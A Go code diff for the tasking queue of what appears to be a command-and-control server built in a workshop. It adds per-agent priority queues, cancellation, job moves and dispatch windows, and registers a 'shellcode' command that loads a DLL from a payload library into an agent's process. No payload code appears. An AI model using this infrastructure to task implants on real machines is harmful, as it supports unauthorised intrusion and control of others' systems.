@@ -4,59 +4,232 @@ import (
 	"encoding/json"
 	"log"
 	"sync"
+	"time"
 	"workshop3_dev/internals/models"
 )
 
 // Registry of valid commands with their validators and processors
 var validCommands = map[string]struct {
-	Validator CommandValidator
-	Processor CommandProcessor
+	Validator   CommandValidator
+	Processor   CommandProcessor
+	MinRole     Role     // Lowest role allowed to queue the command
+	Description string   // Shown to operators by GET /commands
+	Arguments   []string // Argument names, in the order operator tooling should prompt for them
 }{
 	"shellcode": {
-		Validator: validateShellcodeCommand,
-		Processor: processShellcodeCommand,
+		Validator:   validateShellcodeCommand,
+		Processor:   processShellcodeCommand,
+		MinRole:     RoleOperator,
+		Description: "Load a DLL from the payload library into the agent's process and call one of its exports",
+		Arguments:   []string{"payload", "export_name"},
 	},
 }
 
-// CommandValidator validates command-specific arguments
-type CommandValidator func(json.RawMessage) error
+// CommandValidator validates command-specific arguments, and may return a report on them for the operator.
+// Anything it has to read to do so is returned as loaded, so the processor works on exactly the bytes validated.
+type CommandValidator func(args json.RawMessage) (report json.RawMessage, loaded []byte, err error)
 
-// CommandProcessor processes command-specific arguments
-type CommandProcessor func(json.RawMessage) (json.RawMessage, error)
+// CommandProcessor processes command-specific arguments, along with whatever the validator loaded
+type CommandProcessor func(args json.RawMessage, loaded []byte) (json.RawMessage, error)
 
-// CommandQueue stores commands ready for agent pickup
+// CommandQueue stores the IDs of jobs ready for agent pickup, with a separate queue per agent ID.
+// Each queue is ordered by priority, highest first, and FIFO within a priority.
+// mu is always taken before the JobStore lock, never the other way round.
 type CommandQueue struct {
-	PendingCommands []models.CommandClient
+	PendingCommands map[string][]string
 	mu              sync.Mutex
 }
 
 // AgentCommands is Global command queue
 var AgentCommands = CommandQueue{
-	PendingCommands: make([]models.CommandClient, 0),
+	PendingCommands: make(map[string][]string),
 }
 
-// addCommand adds a validated command to the queue
-func (cq *CommandQueue) addCommand(command models.CommandClient) {
+// addCommand adds a queued job to the queue of the agent it is addressed to
+func (cq *CommandQueue) addCommand(job models.Job) {
 	cq.mu.Lock()
 	defer cq.mu.Unlock()
 
-	cq.PendingCommands = append(cq.PendingCommands, command)
-	log.Printf("QUEUED: %s", command.Command)
+	cq.insert(job)
+	log.Printf("QUEUED: %s as %s for agent %s", job.Command, job.ID, job.AgentID)
 }
 
-// GetCommand retrieves and removes the next command from queue
-func (cq *CommandQueue) GetCommand() (models.CommandClient, bool) {
+// insert places a job in its agent's queue behind every job of the same or higher priority, caller holds mu
+func (cq *CommandQueue) insert(job models.Job) {
+	queue := cq.PendingCommands[job.AgentID]
+
+	position := len(queue)
+	for position > 0 {
+		ahead, ok := Jobs.Get(queue[position-1])
+		if !ok || ahead.Priority >= job.Priority {
+			break
+		}
+		position--
+	}
+
+	queue = append(queue, "")
+	copy(queue[position+1:], queue[position:])
+	queue[position] = job.ID
+	cq.PendingCommands[job.AgentID] = queue
+}
+
+// remove takes a job out of an agent's queue, caller holds mu
+func (cq *CommandQueue) remove(agentID string, jobID string) {
+	queue := cq.PendingCommands[agentID]
+	for i, id := range queue {
+		if id == jobID {
+			cq.PendingCommands[agentID] = append(queue[:i], queue[i+1:]...)
+			break
+		}
+	}
+	if len(cq.PendingCommands[agentID]) == 0 {
+		delete(cq.PendingCommands, agentID)
+	}
+}
+
+// Pending returns the jobs waiting for an agent in the order they will be dispatched
+func (cq *CommandQueue) Pending(agentID string) []models.Job {
+	cq.mu.Lock()
+	defer cq.mu.Unlock()
+
+	return cq.pending(agentID)
+}
+
+// PendingAll returns every agent's waiting jobs in dispatch order
+func (cq *CommandQueue) PendingAll() map[string][]models.Job {
+	cq.mu.Lock()
+	defer cq.mu.Unlock()
+
+	all := make(map[string][]models.Job, len(cq.PendingCommands))
+	for agentID := range cq.PendingCommands {
+		all[agentID] = cq.pending(agentID)
+	}
+	return all
+}
+
+func (cq *CommandQueue) pending(agentID string) []models.Job {
+	jobs := make([]models.Job, 0, len(cq.PendingCommands[agentID]))
+	for _, jobID := range cq.PendingCommands[agentID] {
+		if job, ok := Jobs.Get(jobID); ok && job.Status == models.JobQueued {
+			jobs = append(jobs, job)
+		}
+	}
+	return jobs
+}
+
+// Cancel marks a queued job as cancelled and takes it out of its agent's queue. Cancelling a broadcast cancels
+// every one of its jobs that is still queued.
+func (cq *CommandQueue) Cancel(jobID string) (models.Job, error) {
+	cq.mu.Lock()
+	defer cq.mu.Unlock()
+
+	if job, ok := Jobs.Get(jobID); ok && job.Status == models.JobBroadcast {
+		return cq.cancelBroadcast(jobID)
+	}
+
+	job, err := Jobs.updateQueued(jobID, func(job *models.Job) {
+		now := time.Now()
+		job.Status = models.JobCancelled
+		job.CompletedAt = &now
+		job.NextRunAt = nil
+	})
+	if err != nil {
+		return models.Job{}, err
+	}
+
+	cq.remove(job.AgentID, job.ID)
+	log.Printf("CANCELLED: %s (%s) for agent %s", job.ID, job.Command, job.AgentID)
+
+	return job, nil
+}
+
+// SetPriority changes the priority of a queued job and moves it to its new place in the queue
+func (cq *CommandQueue) SetPriority(jobID string, priority int) (models.Job, error) {
 	cq.mu.Lock()
 	defer cq.mu.Unlock()
 
-	if len(cq.PendingCommands) == 0 {
-		return models.CommandClient{}, false
+	job, err := Jobs.updateQueued(jobID, func(job *models.Job) {
+		job.Priority = priority
+	})
+	if err != nil {
+		return models.Job{}, err
 	}
 
-	cmd := cq.PendingCommands[0]
-	cq.PendingCommands = cq.PendingCommands[1:]
+	if job.Status == models.JobQueued {
+		cq.remove(job.AgentID, job.ID)
+		cq.insert(job)
+	}
+	log.Printf("REPRIORITISED: %s for agent %s to %d", job.ID, job.AgentID, priority)
+
+	return job, nil
+}
 
-	log.Printf("DEQUEUED: Command '%s'", cmd.Command)
+// Move hands a queued job to another agent, keeping its priority
+func (cq *CommandQueue) Move(jobID string, agentID string) (models.Job, error) {
+	cq.mu.Lock()
+	defer cq.mu.Unlock()
+
+	var previousAgent string
+	job, err := Jobs.updateQueued(jobID, func(job *models.Job) {
+		previousAgent = job.AgentID
+		job.AgentID = agentID
+	})
+	if err != nil {
+		return models.Job{}, err
+	}
+
+	if job.Status == models.JobQueued {
+		cq.remove(previousAgent, job.ID)
+		cq.insert(job)
+	}
+	log.Printf("MOVED: %s from agent %s to %s", job.ID, previousAgent, agentID)
+
+	return job, nil
+}
+
+// Depth returns the number of jobs waiting in the given agent's queue
+func (cq *CommandQueue) Depth(agentID string) int {
+	cq.mu.Lock()
+	defer cq.mu.Unlock()
+
+	return len(cq.PendingCommands[agentID])
+}
+
+// GetCommand counts a check-in from the agent, then retrieves the first job in its queue that is inside its
+// dispatch window and marks it as dispatched. Jobs whose window has not opened yet keep their place.
+// deliver is called with the job before it leaves the queue, if it fails the job stays queued for the next check-in.
+func (cq *CommandQueue) GetCommand(agentID string, deliver func(models.Job) error) (models.Job, bool, error) {
+	cq.mu.Lock()
+	defer cq.mu.Unlock()
+
+	now := time.Now()
+	cq.runDue(now, agentID)
+	cq.expireOverdue(agentID, now)
+
+	for _, jobID := range append([]string(nil), cq.PendingCommands[agentID]...) {
+		queued, ok := Jobs.Get(jobID)
+		if !ok || queued.Status != models.JobQueued {
+			// The job is no longer waiting to be sent, so skip over it
+			cq.remove(agentID, jobID)
+			continue
+		}
+		if queued.NotBefore != nil && now.Before(*queued.NotBefore) {
+			continue
+		}
+
+		if err := deliver(queued); err != nil {
+			return models.Job{}, false, err
+		}
+
+		cq.remove(agentID, jobID)
+		job, ok := Jobs.MarkDispatched(jobID)
+		if !ok {
+			continue
+		}
+
+		log.Printf("DEQUEUED: Command '%s' (%s) for agent %s", job.Command, job.ID, agentID)
+		return job, true, nil
+	}
 
-	return cmd, true
+	return models.Job{}, false, nil
 }